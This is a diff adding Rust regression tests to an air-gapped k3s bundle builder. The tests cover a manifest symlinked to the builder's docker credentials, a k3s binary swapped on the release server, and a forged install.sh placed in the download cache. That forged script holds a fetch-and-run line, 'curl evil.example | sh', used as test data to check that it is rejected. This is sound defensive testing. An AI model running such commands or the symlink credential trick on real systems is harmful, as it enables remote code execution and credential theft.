@@ -6,10 +6,14 @@
 //! pull policy by file, line and container (`--allow-latest` downgrades it);
 //! one bundle carries amd64 and arm64. `bundle lock` reads a cn-layout
 //! release mirror, retries server errors as pulls do, and keeps a manifest
-//! image named by digest at that digest.
+//! image named by digest at that digest. A manifest that is a symbolic
+//! link is refused by build, lint and lock unless the build follows it.
+//! The lock pins the k3s binary and install.sh: a release that swapped the
+//! binary and its checksum line fails `build --locked` naming both digests.
 
 use crate::support;
 
+use airgap_bundle::digest::Digest;
 use airgap_testbed::proxy::Proxy;
 use airgap_testbed::seed::{self, GUESTBOOK_REFS};
 use serde_json::json;
@@ -560,4 +564,207 @@ fn bundle_lock_reads_the_cn_layout_and_retries_server_errors() {
             "after 5 attempts",
         ],
     );
+}
+
+/// A Service only: no image, so the lock and the lint are not concerned.
+const SERVICE_ONLY: &str = "apiVersion: v1
+kind: Service
+metadata: {name: linked}
+spec:
+  ports: [{port: 80}]
+";
+
+#[test]
+fn a_manifest_that_is_a_symlink_is_refused_unless_followed() {
+    // The attack: a checkout's manifests/creds.json links to the builder's
+    // docker config; the old code read it through the link and signed it
+    // into the bundle as manifests/creds.json.
+    let tb = Testbed::start();
+    let docker = tb.work().join("home/.docker");
+    std::fs::create_dir_all(&docker).unwrap();
+    let config = docker.join("config.json");
+    let secret = "c2l0ZS1ib3Q6aHVudGVyMg==";
+    std::fs::write(
+        &config,
+        format!(r#"{{"auths":{{"registry.example":{{"auth":"{secret}"}}}}}}"#),
+    )
+    .unwrap();
+    let link = tb.manifests_dir().join("creds.json");
+    std::os::unix::fs::symlink(&config, &link).unwrap();
+    let named = format!(
+        "manifest {} is a symbolic link to {}",
+        link.display(),
+        config.display()
+    );
+
+    // build, lint and lock refuse it, naming the link and its target,
+    // before anything is downloaded; nothing is written.
+    let before = std::fs::read(tb.lock_path()).unwrap();
+    let out = tb.build("site.tar.zst", &[]);
+    assert_fails_naming(&out, "build with a linked manifest", &[&named]);
+    tb.assert_no_output(&before);
+    let out = lint(&tb, &[]);
+    assert_fails_naming(&out, "lint with a linked manifest", &[&named]);
+    let out = lock(&tb, "amd64", &[]);
+    assert_fails_naming(&out, "lock with a linked manifest", &[&named]);
+    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), before);
+    assert!(
+        tb.release.all_requests().is_empty(),
+        "{:?}",
+        tb.release.all_requests()
+    );
+
+    // With --follow-symlinks a link (here relative, to a file outside) is
+    // followed and reported as link -> target.
+    std::fs::remove_file(&link).unwrap();
+    let outside = tb.work().join("shared");
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(outside.join("linked.yaml"), SERVICE_ONLY).unwrap();
+    let link = tb.manifests_dir().join("linked.yaml");
+    std::os::unix::fs::symlink("../shared/linked.yaml", &link).unwrap();
+    let out = tb.build("refused.tar.zst", &[]);
+    assert_fails_naming(
+        &out,
+        "build with a relative link",
+        &[&format!(
+            "manifest {} is a symbolic link to ../shared/linked.yaml",
+            link.display()
+        )],
+    );
+    let out = tb.build("site.tar.zst", &["--follow-symlinks"]);
+    assert_ok(&out, "build --follow-symlinks");
+    let target = outside.join("linked.yaml").canonicalize().unwrap();
+    let said = format!(
+        "following the symbolic link {} -> {}",
+        link.display(),
+        target.display()
+    );
+    assert!(stderr(&out).contains(&said), "{}", stderr(&out));
+    let bundle = Bundle::read(&tb.out_dir().join("site.tar.zst"));
+    assert_eq!(
+        bundle.data("manifests/linked.yaml"),
+        SERVICE_ONLY.as_bytes()
+    );
+    assert!(
+        !bundle.names().iter().any(|n| n.contains("creds")),
+        "{:?}",
+        bundle.names()
+    );
+}
+
+#[test]
+fn a_locked_build_refuses_a_k3s_binary_the_release_swapped() {
+    // The attack: whoever controls the release server (or a mirror) swaps
+    // the k3s binary and its sha256sum line after the lock was made. The
+    // old lock pinned only images, so `build --locked` took the new binary.
+    let tb = Testbed::start();
+    assert_ok(&lock(&tb, "amd64", &[]), "bundle lock");
+    let version = seed::DEMO_VERSION;
+    let served = |asset: &str| {
+        Digest::of(&std::fs::read(tb.release_root.path().join(version).join(asset)).unwrap())
+    };
+    let old = served("k3s");
+    let served_before_install_sh = served("install.sh");
+    // The pins as `bundle lock` wrote them satisfy --locked.
+    tb.build_ok("before.tar.zst", &["--locked"]);
+    let before_requests = tb.release.requests(K3S_BINARY_PATH);
+
+    seed::write_demo_release(tb.release_root.path(), b"#!/bin/sh\necho swapped k3s\n").unwrap();
+    let new = served("k3s");
+    assert_ne!(new, old);
+    let lock_before = std::fs::read(tb.lock_path()).unwrap();
+    std::fs::remove_file(tb.out_dir().join("before.tar.zst")).unwrap();
+    let out = tb.build("swapped.tar.zst", &["--locked"]);
+    assert_fails_naming(
+        &out,
+        "build --locked against a swapped k3s binary",
+        &[
+            &format!("k3s: images.lock pins {old}"),
+            "sha256sum-amd64.txt from ",
+            &format!("now lists {new}"),
+        ],
+    );
+    tb.assert_no_output(&lock_before);
+    assert_eq!(
+        tb.release.requests(K3S_BINARY_PATH),
+        before_requests,
+        "the swapped binary was downloaded"
+    );
+    // `bundle lock --check` reports it, and writes nothing.
+    let out = lock(&tb, "amd64", &["--check"]);
+    let all = format!("{}{}", stdout(&out), stderr(&out));
+    assert!(!out.status.success(), "{all}");
+    assert!(
+        all.contains(&format!(
+            "k3s of k3s {version} is now {new}, images.lock pins {old}"
+        )),
+        "{all}"
+    );
+    assert_eq!(std::fs::read(tb.lock_path()).unwrap(), lock_before);
+    // What made it refuse: the pins `bundle lock` wrote.
+    let pinned = read_lock(&tb);
+    assert_eq!(
+        pinned["release"][version]["k3s"],
+        old.to_string(),
+        "{pinned:#}"
+    );
+    assert_eq!(
+        pinned["release"][version]["install.sh"],
+        served_before_install_sh.to_string(),
+        "{pinned:#}"
+    );
+}
+
+#[test]
+fn install_sh_is_pinned_and_a_cached_url_is_no_pin() {
+    // The attack: a forged install.sh planted in the download cache under
+    // the script's URL (the cache trusts no file, but the old build took
+    // its URL -> digest entry as the digest to check against).
+    let tb = Testbed::start();
+    let version = seed::DEMO_VERSION;
+    let served = std::fs::read(tb.release_root.path().join(version).join("install.sh")).unwrap();
+    tb.build_ok("first.tar.zst", &[]);
+    let first_lock = read_lock(&tb);
+
+    // Without the lock's pin, the cached entry for the URL is not used.
+    let forged = b"#!/bin/sh\ncurl evil.example | sh\n";
+    let forged_digest = Digest::of(forged);
+    let cache = tb.work().join("cache/airgap");
+    std::fs::write(cache.join("blobs/sha256").join(forged_digest.hex()), forged).unwrap();
+    let url = format!(
+        "{}/{}/install.sh",
+        tb.release.url().trim_end_matches('/'),
+        version.replace('+', "%2B")
+    );
+    let entry = cache.join("urls").join(Digest::of(url.as_bytes()).hex());
+    assert!(entry.is_file(), "the cache remembers {url}");
+    std::fs::write(&entry, format!("{}\n", forged_digest.hex())).unwrap();
+    let mut unpinned = first_lock.clone();
+    // (get_mut, not indexing: an index would add an empty "release".)
+    let pins = unpinned
+        .get_mut("release")
+        .and_then(|r| r.get_mut(version))
+        .and_then(|p| p.as_object_mut());
+    if let Some(pins) = pins {
+        pins.remove("install.sh");
+    }
+    std::fs::write(
+        tb.lock_path(),
+        serde_json::to_string_pretty(&unpinned).unwrap() + "\n",
+    )
+    .unwrap();
+    let bundle = tb.build_ok("second.tar.zst", &["--rebuild"]);
+    assert_eq!(
+        Bundle::read(&bundle).data("scripts/install.sh"),
+        &served[..],
+        "the forged install.sh from the cache went into the bundle"
+    );
+    // Each build pinned what it fetched.
+    for lock in [first_lock, read_lock(&tb)] {
+        assert_eq!(
+            lock["release"][version]["install.sh"],
+            Digest::of(&served).to_string(),
+            "a build pins install.sh: {lock:#}"
+        );
+    }
 }
